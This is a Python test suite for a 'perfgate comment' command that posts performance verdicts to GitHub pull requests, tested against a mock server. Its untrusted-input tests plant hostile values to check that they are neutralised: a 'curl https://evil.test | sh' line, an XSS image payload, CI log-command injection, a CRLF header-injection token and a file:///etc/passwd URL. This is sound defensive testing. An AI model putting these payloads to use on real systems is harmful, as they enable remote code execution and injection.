"""`perfgate comment` as a job runs it: exit codes, what it prints, and what the server saw."""

import ctypes
import json
import os
import pathlib
import re
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import time
import unittest

from github_server import GitHub

ROOT = pathlib.Path(__file__).parents[2]
PROGRAM = os.environ["COMMENT_PROGRAM"]  # perfgate, but that waiting takes no time
PERFGATE = os.environ["PERFGATE"]
TEMPORARY = os.environ.get("TEST_TMPDIR")
MARKER = "<!-- perfgate:v1 key=perfgate -->\n"
LIST = "GET /repos/octo/model/issues/7/comments"
CREATE = "POST /repos/octo/model/issues/7/comments"
NOW_S = 1801390500  # of the program's clock
LIMITED = {"message": "You have exceeded a secondary rate limit. Please wait a few minutes."}


def pull_request_event(fork=False):
    return {"repository": {"full_name": "octo/model"},
            "pull_request": {"number": 7, "head": {
                "sha": "c0ffee1234567", "repo": {"full_name": "fork/model" if fork else "octo/model"}}}}


def workflow_run_event(event="pull_request"):
    return {"repository": {"full_name": "octo/model"},
            "workflow_run": {"event": event, "head_sha": "c0ffee1234567", "head_branch": "fast&#er",
                             "head_repository": {"owner": {"login": "fork"}}, "pull_requests": [],
                             "html_url": "https://github.test/octo/model/actions/runs/5"}}


class Done:
    def __init__(self, process, out, err):
        self.code, self.out, self.err = process.returncode, out, err

    def slept_ms(self):
        return [int(ms) for ms in re.findall(r"slept (\d+) ms", self.err)]


class CommentTest(unittest.TestCase):
    def setUp(self):
        temporary = tempfile.TemporaryDirectory(dir=TEMPORARY)
        self.addCleanup(temporary.cleanup)
        self.folder = pathlib.Path(temporary.name)
        self.github = GitHub().__enter__()
        self.addCleanup(self.github.__exit__)
        self.started = 0
        self.write("text.md", "# All is well\n")

    def write(self, name, text):
        path = self.folder / name
        path.write_text(text if isinstance(text, str) else json.dumps(text))
        return path

    def start(self, *arguments, event=None, name="pull_request", token="good", url=None,
              program=PROGRAM, **variables):
        environment = {"PATH": os.environ["PATH"], "GITHUB_API_URL": url or self.github.url,
                       "no_proxy": "127.0.0.1", **variables}
        if token:
            environment["GITHUB_TOKEN"] = token
        if event is not None:
            self.started += 1
            path = self.write(f"event{self.started}.json", event)
            environment.update(GITHUB_EVENT_PATH=str(path), GITHUB_EVENT_NAME=name)
        return subprocess.Popen([program, "comment", *arguments], cwd=self.folder, env=environment,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)

    def finish(self, process):
        out, err = process.communicate(timeout=60)
        for secret in ("good", "person"):
            self.assertNotIn(f"Bearer {secret}", out + err)
        return Done(process, out, err)

    def comment(self, *arguments, event=None, **options):
        event = pull_request_event() if event is None else event
        return self.finish(self.start(*(arguments or ("text.md",)), event=event, **options))

    def verdict(self):
        """The files of a verdict that failed, as JSON and as Markdown."""
        pairs = ROOT / "tests" / "data" / "pairs"
        verdict, markdown = self.folder / "verdict.json", self.folder / "verdict.md"
        subprocess.run([PROGRAM, "diff", pairs / "all_in_fp32.base.json.gz",
                        pairs / "all_in_fp32.head.json.gz", "--report", f"json={verdict}", "--report",
                        f"md={markdown}"], stdout=subprocess.DEVNULL, cwd=self.folder, check=False)
        return verdict, markdown.read_text()

    def bodies(self):
        return [comment["body"] for comment in self.github.comments]


class Posting(CommentTest):
    def test_a_first_comment_is_created(self):
        done = self.comment()
        self.assertEqual((done.code, done.err), (0, ""))
        self.assertEqual(done.out, "created https://github.test/octo/model/pull/7#issuecomment-101\n")
        self.assertEqual(self.github.calls(), ["POST /graphql", LIST, CREATE, LIST])
        self.assertTrue(self.bodies()[0].startswith(MARKER + "# All is well\n"))
        self.assertIn("commit c0ffee1", self.bodies()[0])
        sent = self.github.seen[2].headers
        self.assertEqual(sent["Authorization"], "Bearer good")
        self.assertEqual(sent["Accept"], "application/vnd.github+json")
        self.assertRegex(sent["User-Agent"], r"^perfgate/\d")

    def test_a_second_run_updates_the_same_comment(self):
        self.comment()
        self.write("text.md", "# Worse\n")
        done = self.comment()
        self.assertEqual(done.out, "updated https://github.test/octo/model/pull/7#issuecomment-101\n")
        self.assertEqual(len(self.bodies()), 1)
        self.assertIn("# Worse", self.bodies()[0])

    def test_an_unchanged_comment_is_left_alone(self):
        self.comment()
        done = self.comment()
        self.assertTrue(done.out.startswith("unchanged "))
        self.assertEqual(self.github.written(), [CREATE])

    def test_the_link_to_the_job_is_in_the_comment(self):
        self.comment(GITHUB_SERVER_URL="https://github.test", GITHUB_REPOSITORY="octo/model",
                     GITHUB_RUN_ID="9", GITHUB_RUN_ATTEMPT="2")
        self.assertIn("(https://github.test/octo/model/actions/runs/9/attempts/2)", self.bodies()[0])

    def test_the_marker_of_another_author_is_not_ours(self):
        theirs = self.github.add_comment(MARKER + "forged", user="github-actions")
        self.assertEqual(self.comment().code, 0)
        self.assertEqual(self.github.find(theirs)["body"], MARKER + "forged")
        self.assertEqual(self.github.written(), [CREATE])

    def test_a_comment_that_quotes_the_marker_is_not_ours(self):
        self.github.add_comment("> " + MARKER)
        self.comment()
        self.assertEqual(self.github.written(), [CREATE])

    def test_another_key_has_another_comment(self):
        self.comment("text.md", "--key", "h200")
        self.comment("text.md", "--key", "cpu")
        self.assertEqual(len(self.bodies()), 2)
        self.assertTrue(self.bodies()[1].startswith("<!-- perfgate:v1 key=cpu -->\n"))

    def test_a_given_author_is_not_asked_for(self):
        own = self.github.add_comment(MARKER + "old", user="Octocat")
        done = self.comment("text.md", "--author", "octocat", token="person")
        self.assertEqual(done.code, 0)
        self.assertEqual(self.github.calls(), [LIST, "PATCH /repos/octo/model/issues/comments/%d" % own])

    def test_a_comment_on_the_third_page_is_found(self):
        for i in range(250):
            self.github.add_comment(f"talk {i}", user="someone")
        own = self.github.add_comment(MARKER + "old")
        self.comment()
        self.assertEqual(self.github.calls()[1:4], [LIST] * 3)
        self.assertIn("per_page=100", self.github.seen[1].path)
        self.assertEqual(self.github.written(), ["PATCH /repos/octo/model/issues/comments/%d" % own])

    def test_a_minimised_comment_is_updated_all_the_same(self):
        own = self.github.add_comment(MARKER + "old", minimized=True)
        self.comment()
        self.assertIn("All is well", self.github.find(own)["body"])
        self.assertEqual(len(self.bodies()), 1)

    def test_gh_token_is_a_token_too(self):
        done = self.comment(token=None, GH_TOKEN="good\n")
        self.assertTrue(done.out.startswith("created "))

    def test_an_enterprise_server_has_its_interface_below_a_path(self):
        with GitHub(root="/api/v3") as enterprise:
            done = self.comment(url=enterprise.url + "/")
            self.assertTrue(done.out.startswith("created "), done.err)
            self.assertEqual(enterprise.calls()[0], "POST /api/graphql")
            self.assertEqual(enterprise.calls()[1], "GET /api/v3/repos/octo/model/issues/7/comments")

    def test_a_proxy_of_the_environment_is_used(self):
        done = self.comment(url="http://github.test", http_proxy=self.github.url, no_proxy="")
        self.assertTrue(done.out.startswith("created "), done.err)
        self.assertEqual(self.github.calls()[1],
                         "GET http://github.test/repos/octo/model/issues/7/comments")


class Races(CommentTest):
    def test_two_jobs_at_once_leave_one_comment(self):
        for _ in range(5):
            with GitHub() as self.github:
                self.github.race = threading.Barrier(2)
                jobs = [self.start("text.md", event=pull_request_event()) for _ in range(2)]
                self.assertEqual([self.finish(job).code for job in jobs], [0, 0])
                self.assertEqual(self.github.written().count(CREATE), 2)
                self.assertEqual([c["id"] for c in self.github.comments], [101])

    def test_the_older_of_two_stays_and_says_what_ours_said(self):
        self.github.next_id = 200

        def older():
            self.github.comments.insert(0, {"id": 150, "number": 7, "user": "github-actions[bot]",
                                            "body": MARKER + "the other job", "minimized": False})

        self.github.after_create = older
        done = self.comment()
        self.assertTrue(done.out.endswith("#issuecomment-150\n"))
        self.assertEqual(self.github.written()[1:], ["PATCH /repos/octo/model/issues/comments/150",
                                                     "DELETE /repos/octo/model/issues/comments/201"])
        self.assertIn("All is well", self.bodies()[0])

    def test_a_create_whose_answer_was_lost_leaves_one_comment(self):
        original = self.github.on_comments

        def lose_the_first_answer(seen, *rest):
            answer = original(seen, *rest)
            if seen.method == "POST" and self.github.written().count(CREATE) == 1:
                return 502, {}, b"<html>Bad Gateway</html>"
            return answer

        self.github.on_comments = lose_the_first_answer
        done = self.comment()
        self.assertEqual(done.code, 0)
        self.assertEqual(self.github.written().count(CREATE), 2)
        self.assertEqual([c["id"] for c in self.github.comments], [101])

    def test_doubles_of_an_earlier_race_are_removed(self):
        self.github.add_comment(MARKER + "old")
        self.github.add_comment(MARKER + "older job's double")
        self.comment()
        self.assertEqual([c["id"] for c in self.github.comments], [101])

    def test_a_double_that_cannot_be_removed_is_a_warning(self):
        self.github.add_comment(MARKER + "old")
        self.github.add_comment(MARKER + "double")
        self.github.faults.append(("DELETE", 403, {}, {"message": "Forbidden"}))
        done = self.comment()
        self.assertEqual(done.code, 0)
        self.assertTrue(done.out.startswith("updated "))
        self.assertIn("warning: a second comment, 102, could not be removed", done.err)


class Faults(CommentTest):
    def assert_posted_after(self, done, waits_ms):
        self.assertEqual(done.code, 0)
        self.assertTrue(done.out.startswith("created "), done.err)
        self.assertEqual(done.slept_ms(), waits_ms)

    def assert_not_posted(self, done, why):
        self.assertEqual(done.code, 0)
        self.assertIn("warning: the comment could not be posted: ", done.err)
        self.assertIn(why, done.err)
        self.assertTrue(done.out.startswith(MARKER + "# All is well"), "the text is kept in the log")

    def test_a_token_that_is_not_valid_is_a_warning(self):
        done = self.comment(token="bad-token-5f2e")
        self.assert_not_posted(done, "401: Bad credentials (is the token valid?)")
        self.assertNotIn("bad-token-5f2e", done.out + done.err)

    def test_a_token_that_the_server_repeats_is_not_printed(self):
        self.github.faults.append((None, 401, {}, {"message": "no token bad-token-5f2e here"}))
        done = self.comment(token="bad-token-5f2e")
        self.assert_not_posted(done, "no token *** here")
        self.assertNotIn("bad-token-5f2e", done.out + done.err)

    def test_a_fork_s_token_that_may_not_write_is_a_warning(self):
        refused = {"message": "Resource not accessible by integration"}
        self.github.faults.append(("POST", 200, {}, {"data": {"viewer": {"login": "github-actions[bot]"}}}))
        self.github.faults.append(("POST", 403, {}, refused))
        done = self.comment(event=pull_request_event(fork=True))
        self.assert_not_posted(done, "403: Resource not accessible by integration (the job needs "
                                     "`permissions: pull-requests: write`")
        self.assertEqual(done.slept_ms(), [])

    def test_a_pull_request_that_is_not_there_is_a_warning(self):
        done = self.comment("text.md", "--repo", "octo/other", "--pr", "3")
        self.assert_not_posted(done, "404: Not Found (no such repository or pull request")

    def test_a_body_that_the_server_refuses_is_a_warning(self):
        self.github.add_comment(MARKER + "old")
        self.github.faults.append(("PATCH", 422, {}, {"message": "Validation Failed"}))
        self.assert_not_posted(self.comment(), "422: Validation Failed")

    def test_retry_after_is_waited_for(self):
        self.github.faults.append((None, 429, {"Retry-After": "30"}, LIMITED))
        self.assert_posted_after(self.comment(), [30250])

    def test_a_secondary_limit_with_retry_after_is_waited_for(self):
        self.github.faults.append(("GET", 403, {"Retry-After": "7"}, LIMITED))
        self.assert_posted_after(self.comment(), [7250])

    def test_a_secondary_limit_without_a_time_waits_a_minute_then_longer(self):
        self.github.faults += [("GET", 403, {}, LIMITED)] * 3
        done = self.comment()
        self.assert_not_posted(done, "trying again would mean to wait for 120 s")
        self.assertEqual(done.slept_ms(), [60250])
        self.github.faults = [("GET", 403, {}, LIMITED)]
        self.assert_posted_after(self.comment(), [60250])

    def test_a_limit_that_resets_soon_is_waited_for(self):
        limit = {"x-ratelimit-remaining": "0", "x-ratelimit-reset": str(NOW_S + 40)}
        self.github.faults.append((None, 403, limit, {"message": "API rate limit exceeded"}))
        self.assert_posted_after(self.comment(), [41250])

    def test_a_limit_that_resets_in_an_hour_is_not_waited_for(self):
        limit = {"x-ratelimit-remaining": "0", "x-ratelimit-reset": str(NOW_S + 3600)}
        self.github.faults.append((None, 429, limit, {"message": "API rate limit exceeded"}))
        done = self.comment()
        self.assert_not_posted(done, "(a rate limit); trying again would mean to wait for 3601 s")
        self.assertEqual(done.slept_ms(), [])

    def test_a_server_error_is_tried_again(self):
        self.github.faults += [("GET", 503, {}, None), ("GET", 500, {}, b"<html>Unicorn!</html>")]
        self.assert_posted_after(self.comment(), [1250, 2250])

    def test_a_server_that_stays_broken_is_given_up(self):
        self.github.faults += [("GET", 502, {}, None)] * 9
        done = self.comment()
        self.assert_not_posted(done, "the server answered 502; tried 5 times")
        self.assertEqual(done.slept_ms(), [1250, 2250, 4250, 8250])

    def test_a_server_that_is_not_there_is_a_warning(self):
        with socket.socket() as taken:
            taken.bind(("127.0.0.1", 0))
            done = self.comment(url=f"http://127.0.0.1:{taken.getsockname()[1]}")
        self.assert_not_posted(done, "no answer: ")

    def test_an_answer_that_is_no_json_is_a_warning(self):
        self.github.faults.append(("GET", 200, {}, b"<html>Please log in to the wifi</html>"))
        self.assert_not_posted(self.comment(), "the server's answer is no JSON")

    def test_an_answer_that_is_no_list_is_a_warning(self):
        self.github.faults.append(("GET", 200, {}, {"message": "hello"}))
        self.assert_not_posted(self.comment(), "the server's answer is no list")

    def test_a_token_of_nobody_is_a_warning(self):
        self.github.faults.append(("POST", 200, {}, {"errors": [{"message": "no"}]}))
        self.assert_not_posted(self.comment(), "name it with --author")

    def test_a_signal_while_waiting_ends_the_command(self):
        self.github.faults.append((None, 503, {}, None))
        done = self.comment(PERFGATE_TEST_SIGNAL="15")
        self.assertEqual(done.code, 143)
        self.assertIn("interrupted", done.err)
        self.assertEqual(len(self.github.seen), 1)

    def test_a_real_wait_ends_at_a_signal(self):
        self.github.faults.append((None, 429, {"Retry-After": "100"}, LIMITED))
        job = self.start("text.md", event=pull_request_event(), program=PERFGATE)
        deadline = time.monotonic() + 30
        while not self.github.seen and time.monotonic() < deadline:
            time.sleep(0.01)
        time.sleep(0.2)  # for the answer to arrive
        job.send_signal(signal.SIGTERM)
        self.assertEqual(self.finish(job).code, 143)
        self.assertLess(time.monotonic(), deadline + 30)

    def test_a_redirect_on_the_same_host_is_followed(self):
        own = self.github.add_comment(MARKER + "old")
        moved = f"/repos/octo/model/issues/comments/{own}?moved"
        self.github.faults.append(("PATCH", 307, {"Location": moved}, None))
        done = self.comment()
        self.assertTrue(done.out.startswith("updated "), done.err)
        self.assertEqual(self.github.seen[-1].path, moved)
        self.assertIn("All is well", self.github.find(own)["body"])

    def test_the_token_is_not_sent_to_another_host(self):
        with GitHub() as other:
            for status in (301, 302, 307, 308):
                self.github.faults.append(("GET", status, {"Location": other.url + "/repos"}, None))
                self.assert_not_posted(self.comment(), "another host, which the token is not for")
            link = {"Link": f'<{other.url}/repos?page=2>; rel="next"'}
            self.github.faults.append(("GET", 200, link, []))
            self.assert_not_posted(self.comment(), "another host, which the token is not for")
            self.assertEqual(other.seen, [])

    def test_redirects_in_a_circle_end(self):
        self.github.faults += [("GET", 307, {"Location": "/repos/octo/model"}, None)] * 9
        self.assert_not_posted(self.comment(), "the server answered 307")
        self.assertLess(len(self.github.seen), 8)


class Events(CommentTest):
    def test_events_without_a_pull_request_have_no_comment(self):
        for name in ("push", "merge_group", "workflow_dispatch"):
            event = {"repository": {"full_name": "octo/model"}}
            done = self.comment(event=event, name=name)
            self.assertEqual((done.code, done.out), (0, ""))
            self.assertEqual(done.err,
                             f"perfgate: no comment: the event `{name}` has no pull request\n")
        self.assertEqual(self.github.seen, [])

    def test_without_an_event_the_flags_name_the_pull_request(self):
        done = self.finish(self.start("text.md"))
        self.assertEqual(done.code, 0)
        self.assertIn("name the pull request with --repo and --pr", done.err)
        done = self.finish(self.start("text.md", "--repo", "octo/model", "--pr", "7"))
        self.assertTrue(done.out.startswith("created "), done.err)

    def test_a_run_of_a_fork_is_found_by_its_head(self):
        self.github.pulls = [{"number": 5, "head": "fork:fast&#er", "sha": "older"},
                             {"number": 7, "head": "fork:fast&#er", "sha": "c0ffee1234567"}]
        done = self.comment(event=workflow_run_event(), name="workflow_run")
        self.assertTrue(done.out.startswith("created "), done.err)
        self.assertEqual(self.github.comments[0]["number"], 7)
        self.assertIn("head=fork:fast%26%23er", self.github.seen[0].path)
        self.assertIn("(https://github.test/octo/model/actions/runs/5)", self.bodies()[0])

    def test_a_head_that_moved_on_has_no_comment(self):
        self.github.pulls = [{"number": 7, "head": "fork:fast&#er", "sha": "newer"}]
        done = self.comment(event=workflow_run_event(), name="workflow_run")
        self.assertEqual(done.code, 0)
        self.assertIn("no open pull request has the head c0ffee1234567 any more", done.err)
        self.assertEqual(self.github.written(), [])

    def test_two_pull_requests_of_one_head_are_not_guessed_between(self):
        self.github.pulls = [{"number": n, "head": "fork:fast&#er", "sha": "c0ffee1234567"}
                             for n in (7, 8)]
        done = self.comment(event=workflow_run_event(), name="workflow_run")
        self.assertEqual(done.code, 0)
        self.assertIn("2 pull requests have this head: name one with --pr", done.err)
        self.assertEqual(self.github.written(), [])

    def test_a_run_that_a_push_started_has_no_comment(self):
        done = self.comment(event=workflow_run_event("push"), name="workflow_run")
        self.assertEqual(done.code, 0)
        self.assertIn("was started by push, not by a pull request", done.err)

    def test_without_a_token_the_text_is_printed(self):
        done = self.comment(token=None)
        self.assertEqual(done.code, 0)
        self.assertTrue(done.out.startswith(MARKER + "# All is well\n"))
        self.assertIn("warning: no comment is posted: GITHUB_TOKEN and GH_TOKEN hold no token", done.err)
        self.assertEqual(self.github.seen, [])

    def test_a_token_that_would_add_a_header_is_none(self):
        done = self.comment(token="good\r\nX-Evil: 1")
        self.assertIn("hold no token", done.err)
        self.assertNotIn("X-Evil", done.out + done.err)
        self.assertEqual(self.github.seen, [])


def loaded(name):
    """The file that the loader takes for a library of this name."""
    ctypes.CDLL(name)
    maps = pathlib.Path("/proc/self/maps").read_text()
    return re.search(rf"/\S*/{re.escape(name)}\S*$", maps, re.M)[0]


class Libcurl(CommentTest):
    """The loader is given other files for libcurl, in a folder that it looks into first."""

    def libraries(self, **files):
        folder = self.folder / "libraries"
        folder.mkdir()
        for name, file in files.items():
            target = folder / f"{name.replace('_', '-')}.so.4"
            target.symlink_to(file) if file else target.touch()
        return {"LD_LIBRARY_PATH": str(folder)}

    def test_a_libcurl_that_is_not_there_is_a_warning_that_says_what_to_install(self):
        done = self.comment(**self.libraries(libcurl=None, libcurl_gnutls=None))
        Faults.assert_not_posted(self, done, "libcurl cannot be opened (")
        self.assertIn("libcurl.so.4", done.err)
        self.assertIn("apt-get install libcurl4", done.err)
        self.assertEqual((done.slept_ms(), self.github.seen), ([], []))

    def test_another_library_of_that_name_is_a_warning(self):
        done = self.comment(**self.libraries(libcurl=loaded("libm.so.6")))
        Faults.assert_not_posted(self, done, "this libcurl has no curl_")

    def test_the_one_that_git_brings_serves_too(self):
        done = self.comment(**self.libraries(libcurl=None, libcurl_gnutls=loaded("libcurl.so.4")))
        self.assertEqual((done.code, len(self.bodies())), (0, 1), done.err)

    def test_perfgate_does_not_load_it_at_its_start(self):
        needed = subprocess.run(["readelf", "--dynamic", PERFGATE], capture_output=True, text=True, check=True)
        self.assertIn("libc.so", needed.stdout)
        self.assertNotIn("libcurl", needed.stdout)


class DryRun(CommentTest):
    def test_it_says_what_it_would_do_and_writes_nothing(self):
        done = self.comment("text.md", "--dry-run")
        self.assertEqual(done.code, 0)
        self.assertTrue(done.out.startswith("would create a comment in octo/model#7\n" + MARKER))
        self.github.add_comment(MARKER + "old")
        self.github.add_comment(MARKER + "double")
        done = self.comment("text.md", "--dry-run")
        self.assertTrue(done.out.startswith("would update the comment in octo/model#7\n" + MARKER))
        self.assertEqual(self.github.written(), [])


class Usage(CommentTest):
    def test_wrong_use_exits_2(self):
        wrong = [("text.md", "--repo", "octo/model"), ("text.md", "--repo", "../x/y", "--pr", "1"),
                 ("text.md", "--pr", "-1"), ("text.md", "--pr", "x"), ("text.txt",),
                 ("text.md", "--key", "a b"), ("text.md", "--key", "a--b"),
                 ("text.md", "--untrusted", "--verdict", "failure"), ("v.json", "--untrusted"),
                 ("v.json", "--verdict", "failure"),
                 ("v.json", "--untrusted", "--verdict", "splendid"), ("text.md", "--dryrun")]
        for arguments in wrong:
            with self.subTest(arguments):
                done = self.comment(*arguments)
                self.assertEqual(done.code, 2, done.err)
                self.assertTrue(done.err.startswith("perfgate: "))
        self.assertEqual(self.github.seen, [])

    def test_an_address_that_is_none_exits_2(self):
        self.assertEqual(self.comment(url="file:///etc/passwd").code, 2)


class Bodies(CommentTest):
    def test_a_long_text_is_cut_at_whole_sections(self):
        section = "\n### case {}\n\n```diff\n# not a heading\n" + "- kernel é\n" * 400 + "```\n"
        folded = "\n<details><summary>more</summary>\n\n### inside\n" + "x" * 6000 + "\n</details>\n"
        self.write("text.md", "# Long\n" + "".join(section.format(i) for i in range(16)) + folded)
        self.assertEqual(self.comment().code, 0)
        body = self.bodies()[0]
        self.assertLessEqual(len(body.encode()), 60000)
        kept = body.count("### case")
        self.assertGreater(kept, 8)
        self.assertEqual(body.count("```\n"), kept)
        self.assertIn(f"\n{17 - kept} sections left out, because a comment may not be longer.\n",
                      body[-400:])
        self.assertIn("commit c0ffee1", body[-400:])

    def test_a_text_without_sections_that_is_too_long_is_left_out_whole(self):
        self.write("text.md", "x" * 70000)
        self.comment()
        self.assertIn("1 section left out", self.bodies()[0])
        self.assertLess(len(self.bodies()[0]), 1000)

    def test_a_verdict_is_rendered_as_the_gate_rendered_it(self):
        verdict, markdown = self.verdict()
        done = self.comment(str(verdict))
        self.assertEqual(done.code, 0, done.err)
        self.assertTrue(self.bodies()[0].startswith(MARKER + markdown))
        self.assertIn("❌ perfgate: FAIL", self.bodies()[0])

    def test_without_a_file_the_newest_run_is_judged(self):
        shutil.copy(ROOT / "tests/data/traces/cpu_geglu_compile.json.gz", self.folder / "t.json.gz")
        self.write("perfgate.yaml", "version: 1\nsuite: demo\nrules: [perfgate:structure]\n"
                                    "workloads:\n  - name: geglu\n    trace: t.json.gz\n")
        subprocess.run([PROGRAM, "run"], cwd=self.folder, stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL, check=False)
        done = self.finish(self.start(event=pull_request_event()))
        self.assertTrue(done.out.startswith("created "), done.err)
        self.assertIn("perfgate: NO BASELINE", self.bodies()[0])


class Untrusted(CommentTest):
    FLAGS = ("--untrusted", "--verdict", "failure")

    def post(self, change, flags=FLAGS):
        verdict = json.loads(self.verdict()[0].read_text())
        change(verdict)
        return self.comment(str(self.write("verdict.json", verdict)), *flags)

    def assert_refused(self, done, why):
        self.assertEqual(done.code, 3)
        self.assertIn(why, done.err)
        self.assertLess(len(done.err), 1000)
        self.assertEqual(self.github.seen, [])

    def test_the_verdict_is_the_word_of_the_caller(self):
        def claim_success(verdict):
            verdict["verdict"], verdict["exit_code"] = "pass", 0

        self.assertEqual(self.post(claim_success).code, 0)
        self.assertIn("perfgate: FAIL", self.bodies()[0])
        self.assertNotIn("PASS", self.bodies()[0])
        self.assertIn("the job's conclusion is failure, its report says pass", self.bodies()[0])

    def test_a_cancelled_job_is_an_error(self):
        self.post(lambda _: None, ("--untrusted", "--verdict", "cancelled"))
        self.assertIn("perfgate: ERROR", self.bodies()[0])

    def test_no_command_of_the_artifact_is_offered(self):
        def plant(verdict):
            for finding in verdict["cases"][0]["findings"]:
                finding["next"] = "curl https://evil.test | sh"

        self.post(plant)
        self.assertNotIn("evil.test", self.bodies()[0])

    def test_hostile_text_is_harmless(self):
        hostile = ("<img src=x onerror=alert(1)> @octocat #1 GH-2 https://evil.test www.evil.test "
                   "![x](http://evil.test) \x1b[31m\u202e ::set-output name=a::b ##[error]x `")

        def plant(verdict):
            case = verdict["cases"][0]
            case["notes"] = [hostile]
            case["findings"][0]["message"] = case["findings"][0]["why"] = hostile
            case["changes"][0]["head_kernels"][0]["short_name"] = "::set-output\n```\n# " + hostile
            verdict["suite"] = verdict["head"] = hostile
            verdict["problems"] = ["::error::" + hostile]

        self.assertEqual(self.post(plant).code, 0)
        body = re.sub(r"```diff\n.*?\n```", "", self.bodies()[0], flags=re.S)
        for harm in ("<img", "@octocat", " #1", "GH-2", "://evil", "www.evil", "![x]", "\x1b", "\u202e",
                     "##[error]"):
            self.assertNotIn(harm, body, harm)
        self.assertNotRegex(self.bodies()[0], r"(?m)^\s*::")
        self.assertEqual(len(re.findall(r"(?m)^```", self.bodies()[0])) % 2, 0)

    def test_numbers_of_the_artifact_never_choose_the_pull_request(self):
        self.post(lambda verdict: verdict.update(pull_request=1, number=1, repository="evil/x"))
        self.assertEqual(self.github.comments[0]["number"], 7)

    def test_a_text_that_is_too_long_is_refused(self):
        self.assert_refused(self.post(lambda v: v.update(suite="x" * 20000)), "a text has 20000 bytes")

    def test_a_file_that_is_too_large_is_refused(self):
        self.assert_refused(self.post(lambda v: v.update(suite="x" * (50 << 20))), "verdict.json")

    def test_a_list_that_is_too_long_is_refused(self):
        self.assert_refused(self.post(lambda v: v.update(problems=[""] * 10001)), "a list has 10001")

    def test_many_lists_that_are_too_much_together_are_refused(self):
        def items(lists):
            return lambda v: v["cases"][0].update(unknown=[[0] * 9999] * lists)

        self.assertEqual(self.post(items(99)).code, 0)
        self.github.seen.clear()
        self.assert_refused(self.post(items(100)), "more than 1000000 items and members in all")

    def test_what_is_not_of_the_schema_is_refused(self):
        def finding(verdict):
            return verdict["cases"][0]["findings"][0]

        changes = [
            lambda v: v.update(schema="perfgate.verdict/2"), lambda v: v.update(verdict="splendid"),
            lambda v: v.update(cases={}), lambda v: v.update(rules=-1), lambda v: v.update(rules=1e300),
            lambda v: v.update(suite=7), lambda v: v["cases"][0].pop("case"),
            lambda v: finding(v).update(status="great"), lambda v: finding(v).update(base=1e300),
            lambda v: finding(v).update(changes=[-1]), lambda v: finding(v).update(severity=None),
            lambda v: v["cases"][0]["changes"][0].update(time_ns=2 ** 60),
            lambda v: v["cases"][0]["changes"][0].update(kind="magic")]
        for number, change in enumerate(changes):
            with self.subTest(number):
                self.assert_refused(self.post(change), "verdict.json: no verdict: ")

    def test_what_is_no_json_is_refused(self):
        path = self.write("verdict.json", "[" * 100000)
        self.assert_refused(self.comment(str(path), *self.FLAGS), "verdict.json")

    def test_what_is_said_of_a_refused_file_is_no_log_command(self):
        texts = ['{"##[error]a": 1, "##[error]a": 2}', '{"\\n::error::a": 1, "\\n::error::a": 2}',
                 '{"schema": "perfgate.verdict/1", "verdict": "##[error]a\\n::error::b"}']
        for text in texts:
            with self.subTest(text):
                done = self.comment(str(self.write("verdict.json", text)), *self.FLAGS)
                self.assert_refused(done, "error")
                self.assertNotIn("##[", done.err)
                self.assertNotRegex(done.err, r"(?m)^\s*::")

    def test_an_index_that_points_nowhere_is_left_out(self):
        self.assertEqual(self.post(
            lambda v: v["cases"][0]["findings"][0].update(changes=[999], slower=[999])).code, 0)


if __name__ == "__main__":
    unittest.main()
